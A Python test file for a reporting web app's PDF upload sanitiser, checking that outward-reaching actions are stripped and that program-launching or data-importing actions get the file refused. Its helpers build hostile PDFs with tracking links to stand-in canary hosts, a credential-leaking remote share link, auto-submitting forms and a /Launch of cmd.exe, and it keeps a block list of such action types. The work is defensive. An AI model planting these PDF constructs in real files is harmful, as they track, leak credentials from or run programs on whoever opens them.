"""PDF evidence whose actions reach out (web links, other files, forms that send themselves,
actions run on opening a file, page or field) is stored without them; actions that import
data or start programs get the file refused. Going to a page of the same document stays."""

from __future__ import annotations

import io
from collections.abc import Callable

import pytest
from django.test import Client
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from steward.reports import uploads
from steward.reports.models import Evidence

from .helpers import error_texts, report_data, snapshot, upload

pytestmark = pytest.mark.django_db
OUTWARD = {"/URI", "/GoToR", "/SubmitForm", "/ImportData", "/Launch", "/JavaScript", "/GoToE", "/Thread"}


def name(value: str) -> NameObject:
    return NameObject(value)


def action(writer: PdfWriter, kind: str, **entries) -> IndirectObject:
    return writer._add_object(DictionaryObject({name("/S"): name(kind), **{name(f"/{k}"): v for k, v in entries.items()}}))


def web_address(host: str) -> TextStringObject:
    return TextStringObject(f"https://{host}.canary.example/track?reporter=1")


def url_file(host: str) -> DictionaryObject:
    return DictionaryObject({name("/FS"): name("/URL"), name("/F"): web_address(host)})


def link(writer: PdfWriter, page: int, target: IndirectObject) -> None:
    annotation = DictionaryObject({
        name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
        name("/Rect"): ArrayObject([NumberObject(10), NumberObject(10), NumberObject(90), NumberObject(30)]),
        name("/A"): target,
    })
    writer.add_annotation(page, annotation)


def web_link(writer: PdfWriter) -> None:
    writer.add_annotation(0, Link(rect=(10, 10, 90, 30), url="https://web-link.canary.example/track"))


def open_web_page_on_opening(writer: PdfWriter) -> None:
    writer.root_object[name("/OpenAction")] = action(writer, "/URI", URI=web_address("open-action"))


def remote_file_link(writer: PdfWriter) -> None:  # a file on another machine: opening it sends the viewer's credentials
    link(writer, 0, action(writer, "/GoToR", F=TextStringObject(r"\\remote-file.canary.example\share\more.pdf"),
                           D=ArrayObject([NumberObject(0), name("/Fit")])))


def open_remote_file_on_opening(writer: PdfWriter) -> None:
    writer.root_object[name("/OpenAction")] = action(
        writer, "/GoToR", F=TextStringObject(r"\\open-remote.canary.example\share\more.pdf"),
        D=ArrayObject([NumberObject(0), name("/Fit")]))


def submit_form_on_page_open(writer: PdfWriter) -> None:
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): action(writer, "/SubmitForm", F=url_file("page-open-submit"))})


def submit_form_button(writer: PdfWriter) -> None:
    field = DictionaryObject({
        name("/Type"): name("/Annot"), name("/Subtype"): name("/Widget"), name("/FT"): name("/Btn"),
        name("/T"): TextStringObject("send"), name("/Ff"): NumberObject(65536),
        name("/Rect"): ArrayObject([NumberObject(10), NumberObject(40), NumberObject(90), NumberObject(60)]),
        name("/A"): action(writer, "/SubmitForm", F=url_file("button-submit")),
        name("/AA"): DictionaryObject({name("/E"): action(writer, "/URI", URI=web_address("button-enter"))}),
    })
    reference = writer._add_object(field)
    writer.pages[0][name("/Annots")] = ArrayObject([reference])
    writer.root_object[name("/AcroForm")] = DictionaryObject({name("/Fields"): ArrayObject([reference])})


def web_address_on_closing(writer: PdfWriter) -> None:
    writer.root_object[name("/AA")] = DictionaryObject({name("/WC"): action(writer, "/URI", URI=web_address("will-close"))})


def web_bookmark(writer: PdfWriter) -> None:
    item = writer.add_outline_item(title="Where it happened", page_number=0).get_object()
    item.pop(name("/Dest"), None)
    item[name("/A")] = action(writer, "/URI", URI=web_address("bookmark"))


def web_address_after_going_to_a_page(writer: PdfWriter) -> None:
    first = action(writer, "/GoTo", D=ArrayObject([writer.pages[1].indirect_reference, name("/Fit")]),
                   Next=action(writer, "/URI", URI=web_address("next-action")))
    link(writer, 0, first)


def base_address_for_links(writer: PdfWriter) -> None:  # held in an object of its own, as a reference
    writer.root_object[name("/URI")] = writer._add_object(DictionaryObject({name("/Base"): web_address("base-uri")}))


def hostile_pdf(*builders: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_blank_page(width=200, height=200)
    for build in builders:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def submit(content: bytes, file_name: str = "statement.pdf"):
    client = Client()
    return client.post("/report/", {**report_data(client), "evidence": [upload(file_name, content, "application/pdf")]})


def stored_pdf() -> bytes:
    evidence = Evidence.objects.get()
    assert evidence.content_type == "application/pdf"
    return evidence.read_file()


def actions_in(content: bytes) -> set[str]:
    """Every action kind and action entry anywhere in the file, however it is reached."""
    found: set[str] = set()
    for dictionary in uploads._pdf_dictionaries(PdfReader(io.BytesIO(content)).trailer):
        if dictionary.get("/S") in OUTWARD:
            found.add(str(dictionary["/S"]))
        found.update(key for key in ("/OpenAction", "/AA", "/Next") if key in dictionary)
        if isinstance(dictionary.get("/URI"), DictionaryObject | IndirectObject):
            found.add("/URI base")
    return found


REWRITTEN = {
    "web link": (web_link, {"/URI"}),
    "web page on opening": (open_web_page_on_opening, {"/OpenAction", "/URI"}),
    "remote file link": (remote_file_link, {"/GoToR"}),
    "remote file on opening": (open_remote_file_on_opening, {"/OpenAction", "/GoToR"}),
    "form sent on page open": (submit_form_on_page_open, {"/AA", "/SubmitForm"}),
    "form button": (submit_form_button, {"/SubmitForm", "/AA", "/URI"}),
    "web address on closing": (web_address_on_closing, {"/AA", "/URI"}),
    "web bookmark": (web_bookmark, {"/URI"}),
    "web address chained after a page": (web_address_after_going_to_a_page, {"/Next", "/URI"}),
    "base address for links": (base_address_for_links, {"/URI base"}),
}


@pytest.mark.parametrize("kind", REWRITTEN)
def test_actions_that_reach_out_are_removed_from_the_stored_file(kind):
    build, present = REWRITTEN[kind]
    original = hostile_pdf(build)
    assert actions_in(original) >= present  # the hostile parts really are in what is sent
    assert b"canary" in original

    response = submit(original)

    assert response.status_code == 200, response.content.decode()[:3000]
    clean = stored_pdf()
    assert actions_in(clean) == set()
    assert b"canary" not in clean
    assert len(PdfReader(io.BytesIO(clean)).pages) == 2  # still the same document


def test_every_kind_at_once_is_removed_and_the_document_stays_whole():
    original = hostile_pdf(*(build for build, _ in REWRITTEN.values()))

    assert submit(original).status_code == 200

    clean = stored_pdf()
    assert actions_in(clean) == set()
    assert b"canary" not in clean


def test_a_link_to_another_page_of_the_same_document_stays():
    def page_link(writer: PdfWriter) -> None:
        link(writer, 0, action(writer, "/GoTo", D=ArrayObject([writer.pages[1].indirect_reference, name("/Fit")])))

    assert submit(hostile_pdf(page_link)).status_code == 200

    reader = PdfReader(io.BytesIO(stored_pdf()))
    target = reader.pages[0]["/Annots"][0].get_object()["/A"].get_object()
    assert target["/S"] == "/GoTo"
    assert target["/D"][0].get_object() == reader.pages[1].get_object()


def import_data_on_page_open(writer: PdfWriter) -> None:
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): action(writer, "/ImportData", F=TextStringObject("answers.fdf"))})


def launch_on_opening(writer: PdfWriter) -> None:
    writer.root_object[name("/OpenAction")] = action(writer, "/Launch", F=TextStringObject("cmd.exe"))


def launch_from_a_web_link_chain(writer: PdfWriter) -> None:
    link(writer, 0, action(writer, "/URI", URI=web_address("chain"), Next=action(writer, "/Launch", F=TextStringObject("cmd.exe"))))


@pytest.mark.parametrize("build", [import_data_on_page_open, launch_on_opening, launch_from_a_web_link_chain])
def test_actions_that_import_data_or_start_programs_are_refused(build):
    before = snapshot()

    response = submit(hostile_pdf(build), "form.pdf")

    assert response.status_code == 400
    assert error_texts(response, "evidence") == [
        "“form.pdf” contains scripts, attached files or actions that start other programs, so we cannot accept it. "
        "Please print it to a new PDF or send screenshots instead."]
    assert snapshot() == before


def web_address_where_no_action_belongs(writer: PdfWriter) -> None:
    writer.pages[0][name("/Extra")] = action(writer, "/URI", URI=web_address("hidden"))


def test_an_outward_action_left_anywhere_after_the_rewrite_gets_the_file_refused():
    """A reader may look in places this rewrite does not know; nothing that reaches out is stored, wherever it is."""
    before = snapshot()

    response = submit(hostile_pdf(web_address_where_no_action_belongs), "odd.pdf")

    assert response.status_code == 400
    assert error_texts(response, "evidence")[0].startswith("“odd.pdf” contains scripts, attached files or actions")
    assert snapshot() == before
